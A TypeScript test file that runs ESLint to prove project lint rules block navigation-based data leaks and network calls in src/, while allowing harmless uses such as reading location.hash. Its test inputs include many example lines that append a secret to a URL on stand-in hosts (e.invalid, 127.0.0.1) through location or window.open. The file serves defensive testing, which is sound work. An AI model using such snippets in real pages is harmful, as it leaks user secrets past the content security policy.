/**
 * The lint rules that keep src/ from leaving the page by navigation (issue 12 item 10). The CSP
 * (default-src 'none'; connect-src 'none') refuses requests, but no CSP stops a navigation: with
 * `location.href = 'http://127.0.0.1:8000/?' + secret` or `window.open(url)` the data would leave
 * in the URL. eslint.config.js refuses these in src/; this test runs ESLint's Node API on snippets
 * to prove the rule fires (and stays quiet on what the page really does, e.g. reading location.hash).
 */
import { ESLint } from 'eslint';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';

const root = fileURLToPath(new URL('../../', import.meta.url));
const eslint = new ESLint({ cwd: root });

async function ruleHits(code: string, filePath: string): Promise<string[]> {
  const [result] = await eslint.lintText(code, { filePath });
  return result!.messages.filter((m) => ['no-restricted-syntax', 'no-restricted-globals'].includes(m.ruleId ?? '')).map((m) => m.message);
}

const secret = 'const secret = "k";\n';

describe('eslint: no navigation away from the page in src/', () => {
  it.each([
    ['location = x', `${secret}location = 'http://127.0.0.1/?' + secret;`],
    ['location.href = x', `${secret}location.href = 'http://127.0.0.1/?' + secret;`],
    ['location.search = x', `${secret}location.search = secret;`],
    ['window.location = x', `${secret}window.location = 'http://e.invalid/' + secret;`],
    ['window.location.href = x', `${secret}window.location.href = 'http://e.invalid/' + secret;`],
    ['document.location = x', `${secret}document.location = 'http://e.invalid/' + secret;`],
    ['globalThis.location.href = x', `${secret}globalThis.location.href = 'http://e.invalid/' + secret;`],
    ['top.location.href = x', `${secret}top!.location.href = 'http://e.invalid/' + secret;`],
    ['location.assign(x)', `${secret}location.assign('http://e.invalid/' + secret);`],
    ['location.replace(x)', `${secret}location.replace('http://e.invalid/' + secret);`],
    ['window.location.assign(x)', `${secret}window.location.assign('http://e.invalid/' + secret);`],
    ["window['location'].href = x", `${secret}window['location'].href = 'http://e.invalid/' + secret;`],
    ['window.open(x)', `${secret}window.open('http://e.invalid/' + secret);`],
    ['globalThis.open(x)', `${secret}globalThis.open('http://e.invalid/' + secret);`],
    ['open(x)', `${secret}open('http://e.invalid/' + secret);`],
  ])('refuses %s in src/lib and src/ui', async (_name, code) => {
    expect.hasAssertions();
    for (const file of ['src/lib/probe.ts', 'src/ui/probe.ts']) {
      const hits = await ruleHits(code, file);
      expect(hits.length, `${file}: ${code}`).toBeGreaterThan(0);
      expect(hits.join('\n')).toMatch(/navigat/i);
    }
  });

  it('keeps refusing the network in src/ (the src/ block repeats the global rules)', async () => {
    expect.hasAssertions();
    const [result] = await eslint.lintText("export const s = new WebSocket('ws://e.invalid/');\nexport const f = fetch('/x');", { filePath: 'src/lib/probe.ts' });
    const messages = result!.messages.map((m) => m.message);
    expect(messages).toContain('No network.');
    expect(messages.some((m) => m.includes('never reaches the network'))).toBe(true);
  });

  it.each([
    ['reading location.hash', 'export const h = location.hash;'],
    ['setting location.hash (same document)', "location.hash = '#/manage';"],
    ['reading location.protocol', 'export const fileMode = globalThis.location?.protocol === "file:";'],
    ['a method named open on something else', 'declare const db: { open(): void }; db.open();'],
    ['a local function named open', 'function open(n: string): string { return n; }\nexport const o = open("x");'],
    ['a method named replace on a string', "export const s = 'a'.replace('a', 'b');"],
  ])('allows %s', async (_name, code) => {
    expect.hasAssertions();
    expect(await ruleHits(code, 'src/ui/probe.ts')).toEqual([]);
  });
});
